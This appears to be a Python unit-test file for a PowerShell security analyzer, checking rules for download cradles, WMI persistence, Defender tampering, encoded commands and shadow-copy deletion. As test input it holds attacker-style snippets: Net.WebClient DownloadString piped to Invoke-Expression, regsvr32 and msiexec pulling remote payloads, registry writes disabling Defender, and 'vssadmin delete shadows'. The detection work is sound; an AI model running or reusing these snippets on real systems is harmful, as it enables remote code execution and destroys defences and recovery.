"""Focused cases for what the blind5j corpus (admin look-alikes, tradecraft, PowerShell 7; written from
PSScriptAnalyzer's sources and ATT&CK) found: one test per fixed miss or false finding, each with a near miss
that must stay as it was."""

from __future__ import annotations

from psscript_graphql.analyzer.findings import Finding
from tests.unit.analyzer.corpus_cases import analyze, hits, lines_of


def _details(findings: list[Finding]) -> list[tuple[int, str | None]]:
    return sorted((finding.line, finding.detail) for finding in findings)


def test_a_parallel_foreach_is_one_note_at_its_parallel_parameter() -> None:
    # The parameters that came with -Parallel (`} -ThrottleLimit 8` on the closing line) are not noted again:
    # nine of ten independent corpora label the -Parallel line only (docs/analysis.md, PSUseCompatibleCommands).
    result = analyze("""
        $hosts | ForEach-Object -Parallel {
            Test-Connection -ComputerName $_ -Count 1
        } -ThrottleLimit 8
        1..3 | ForEach-Object -Parallel { $_ } -TimeoutSeconds 30 -AsJob
    """)
    assert _details(hits(result, "PSUseCompatibleCommands")) == [
        (1, "PSCompatibilityForEachParallel"),
        (4, "PSCompatibilityForEachParallel"),
    ]


def test_foreach_object_parameters_windows_powershell_has_are_no_note() -> None:
    result = analyze("""
        1..3 | ForEach-Object -Begin { $t = 0 } -Process { $t += $_ } -End { $t }
        Start-Job { 1 } | Receive-Job -Wait
        Invoke-Command -ScriptBlock { 1 } -ThrottleLimit 8
    """)
    assert lines_of(result, "PSUseCompatibleCommands") == []


def test_wmi_subscription_classes_listed_or_removed_in_a_foreach_are_no_persistence() -> None:
    result = analyze("""
        foreach ($class in '__EventFilter', 'CommandLineEventConsumer', '__FilterToConsumerBinding') {
            Get-CimInstance -Namespace root\\subscription -ClassName $class |
                Export-Clixml -Path "wmi_$class.xml"
        }
        foreach ($class in 'CommandLineEventConsumer', 'ActiveScriptEventConsumer', '__EventFilter') {
            Get-CimInstance -Namespace root\\subscription -ClassName $class |
                Where-Object { $IocName -contains $_.Name } |
                Remove-CimInstance
        }
    """)
    assert lines_of(result, "PSPersistenceWmiSubscription") == []


def test_wmi_subscription_classes_in_a_variable_only_walked_to_list_or_remove_them_are_no_persistence() -> None:
    result = analyze("""
        $classes = '__EventFilter', 'CommandLineEventConsumer', '__FilterToConsumerBinding'
        foreach ($c in $classes) {
            Get-CimInstance -Namespace root\\subscription -ClassName $c | Remove-CimInstance
        }
        $more = @(
            '__EventFilter'
            'ActiveScriptEventConsumer'
        )
        $more | ForEach-Object { Get-CimInstance -Namespace root\\subscription -ClassName $_ }
    """)
    assert lines_of(result, "PSPersistenceWmiSubscription") == []


def test_wmi_subscription_classes_in_a_variable_used_to_create_or_otherwise_stay_persistence() -> None:
    result = analyze("""
        $kinds = '__EventFilter', 'CommandLineEventConsumer'
        foreach ($k in $kinds) { Set-WmiInstance -Namespace root\\subscription -Class $k -Arguments @{ Name = 'x' } }
        $names = '__EventFilter'
        Write-Output $names
        Get-CimInstance -Namespace root\\subscription -ClassName $names
    """)
    assert lines_of(result, "PSPersistenceWmiSubscription") == [1, 3]


def test_wmi_subscription_classes_created_in_a_foreach_stay_persistence() -> None:
    result = analyze("""
        foreach ($class in '__EventFilter', 'CommandLineEventConsumer') {
            Set-WmiInstance -Namespace root\\subscription -Class $class -Arguments @{ Name = 'Updater' }
        }
        foreach ($class in '__EventFilter') {
            Get-CimInstance -Namespace root\\subscription -ClassName $class
            New-CimInstance -Namespace root\\subscription -ClassName $class -Property @{ Name = 'x' }
        }
    """)
    assert lines_of(result, "PSPersistenceWmiSubscription") == [1, 4]


def test_defender_policy_values_only_read_by_an_audit_are_no_tampering() -> None:
    result = analyze("""
        $settings = @(
            @{ Path = 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender'; Name = 'DisableAntiSpyware'; Expected = 0 }
        )
        foreach ($s in $settings) {
            $value = Get-ItemPropertyValue -Path $s.Path -Name $s.Name -ErrorAction SilentlyContinue
        }
    """)
    assert lines_of(result, "PSDefenderTampering") == []


def test_defender_policy_values_written_stay_tampering() -> None:
    result = analyze("""
        $p = 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender'
        $values = @{ DisableAntiSpyware = 1; DisableAntiVirus = 1 }
        foreach ($k in $values.Keys) { Set-ItemProperty -Path $p -Name $k -Value $values[$k] }
        reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
        Get-ItemPropertyValue -Path $p -Name DisableAntiSpyware
    """)
    assert lines_of(result, "PSDefenderTampering") == [2, 4]


def test_a_method_name_in_a_braced_variable_assigned_computed_text_is_folded() -> None:
    result = analyze("""
        ${o} = New-Object Net.WebClient
        ${m} = ("{0}{2}{1}" -f 'Down', 'String', 'load')
        ${s} = ${o}.${m}('http://198.51.100.33/p.ps1')
        Invoke-Expression ${s}
    """)
    assert lines_of(result, "PSObfuscatedCommandName") == [3]
    assert lines_of(result, "PSDownloadCradle") == [3]
    assert "DownloadString" in hits(result, "PSObfuscatedCommandName")[0].message


def test_a_braced_variable_holding_a_plain_literal_or_computed_property_name_is_no_obfuscation() -> None:
    result = analyze("""
        ${m} = 'DownloadString'
        ${p} = ('Ro' + 'ot')
        ${cfg} = Get-Content -Path .\\c.json -Raw | ConvertFrom-Json
        Write-Output ${cfg}.${p} ${cfg}.${m}
    """)
    assert lines_of(result, "PSObfuscatedCommandName") == []


def test_a_computed_method_name_invoked_through_its_method_object_is_a_call() -> None:
    result = analyze("""
        $src = (Ne`w-Ob`j`ect Net.`WebC`l`ient).("Down" + "loadString").Invoke('http://198.51.100.48/s')
        $sb = [ScriptBlock]::Create($src)
        $sb.Invoke()
    """)
    assert lines_of(result, "PSObfuscatedCommandName") == [1]
    assert lines_of(result, "PSDownloadCradle") == [1]


def test_a_computed_property_read_then_invoked_later_is_no_call() -> None:
    result = analyze("""
        $method = $cfg.('Ro' + 'ot')
        $value = $cfg.('Ro' + 'ot').Length
        Write-Output $method $value
    """)
    assert lines_of(result, "PSObfuscatedCommandName") == []


def test_a_download_method_object_invoked_is_a_download() -> None:
    result = analyze("""
        $doc = (New-Object Net.WebClient).DownloadString.Invoke('http://198.51.100.48/readme.txt')
        Write-Output $doc
        $page = (New-Object Net.WebClient).DownloadString.Invoke('http://198.51.100.48/s')
        Invoke-Expression $page
        $items.Invoke(1)
    """)
    assert lines_of(result, "PSNetWebClientDownload") == [1]
    assert lines_of(result, "PSDownloadCradle") == [3]


def test_signed_proxies_with_the_url_in_a_constant_or_started_by_start_process_are_cradles() -> None:
    result = analyze("""
        $c2 = 'http://198.51.100.61'
        regsvr32.exe /s /n /u /i:$c2/files/update.sct scrobj.dll
        Start-Process -FilePath msiexec.exe -ArgumentList '/q /i https://198.51.100.61/files/agent.msi'
        Start-Process 'C:\\Windows\\System32\\msiexec.exe' "/q /i ${c2}/a.msi"
    """)
    assert lines_of(result, "PSDownloadCradle") == [2, 3, 4]


def test_signed_proxies_with_local_files_or_a_reassigned_variable_are_no_cradles() -> None:
    result = analyze("""
        $local = 'C:\\pkg'
        regsvr32.exe /s /i:$local/x.sct scrobj.dll
        Start-Process -FilePath msiexec.exe -ArgumentList '/q /i C:\\pkg\\agent.msi'
        Start-Process -FilePath notepad.exe -ArgumentList 'http://198.51.100.61/readme.txt'
        $u = 'http://198.51.100.61'
        $u = 'C:\\pkg'
        regsvr32 /s /i:$u/x.sct scrobj.dll
    """)
    assert lines_of(result, "PSDownloadCradle") == []


def test_encoded_command_in_an_argument_list_variable_assigned_once() -> None:
    result = analyze("""
        $recon = 'dwBoAG8AYQBtAGkAIAAvAGEAbABsAA=='
        $psArgs = @('-NoProfile', '-WindowStyle', 'Hidden', '-EncodedCommand', $recon)
        $p = Start-Process -FilePath 'powershell.exe' -ArgumentList $psArgs -PassThru -WindowStyle Hidden
        $line = '-NoProfile -Enc ZABpAHIA'
        Start-Process pwsh -ArgumentList $line
    """)
    assert lines_of(result, "PSEncodedCommand") == [3, 5]


def test_encoded_looking_words_that_belong_to_the_script_or_another_program_are_no_encoded_command() -> None:
    result = analyze("""
        $a = @('-NoProfile', '-File', 'C:\\tools\\x.ps1', '-e', 'prod')
        Start-Process powershell.exe -ArgumentList $a
        Start-Process powershell.exe -ArgumentList '-NoProfile -File C:\\tools\\x.ps1 -e prod'
        $c = @('-EncodedCommand', 'x')
        $c = @('-File', 'a.ps1')
        Start-Process powershell -ArgumentList $c
        $d = @('-EncodedCommand', 'x')
        Start-Process notepad -ArgumentList $d
    """)
    assert lines_of(result, "PSEncodedCommand") == []


def test_a_command_named_by_a_constant_hashtable_entry_is_resolved() -> None:
    result = analyze("""
        $tools = @{
            vss  = "$env:windir\\System32\\vssadmin.exe"
            'bcd' = 'bcdedit.exe'
        }
        & $tools.vss delete shadows /all /quiet
        & $tools.bcd /set '{default}' recoveryenabled No
    """)
    assert lines_of(result, "PSInhibitSystemRecovery") == [5, 6]
    assert "resolved: $tools.vss" in hits(result, "PSInhibitSystemRecovery")[0].message
    assert lines_of(result, "PSObfuscatedCommandName") == []


def test_a_hashtable_entry_that_is_changed_reassigned_or_missing_is_not_resolved() -> None:
    result = analyze("""
        $a = @{ vss = 'vssadmin.exe' }
        $a.vss = 'C:\\tools\\report.exe'
        & $a.vss delete shadows /all /quiet
        $b = @{ vss = 'vssadmin.exe' }
        $b['vss'] = 'C:\\tools\\report.exe'
        & $b.vss delete shadows /all /quiet
        $c = @{ vss = 'vssadmin.exe' }
        $c = @{ vss = 'C:\\tools\\report.exe' }
        & $c.vss delete shadows /all /quiet
        $d = @{ other = 'vssadmin.exe' }
        & $d.vss delete shadows /all /quiet
        $e = @{ vss = 'vssadmin.exe' }
        $e.Add('x', 1)
        & $e.vss delete shadows /all /quiet
    """)
    assert lines_of(result, "PSInhibitSystemRecovery") == []


def test_hashtable_entries_indexed_or_copied_to_a_variable_are_resolved_too() -> None:
    result = analyze("""
        $tools = @{ vss = 'vssadmin.exe'; wb = 'wbadmin.exe'; run = 'Invoke-Expression' }
        & $tools['vss'] delete shadows /all /quiet
        $wb = $tools.wb
        & $wb delete catalog -quiet
        & $tools.run 'Get-Date'
        & $tools['run'] 'Get-Date'
        $cfg = @{ Root = 'C:\\reports' }
        Write-Output "$($cfg.Root)\\daily" $cfg['Root']
    """)
    assert lines_of(result, "PSInhibitSystemRecovery") == [2, 4]
    # A table of tool paths is ordinary; a table that hides Invoke-Expression is not.
    assert lines_of(result, "PSObfuscatedCommandName") == [5, 6]
    assert lines_of(result, "PSAvoidUsingInvokeExpression") == [5, 6]
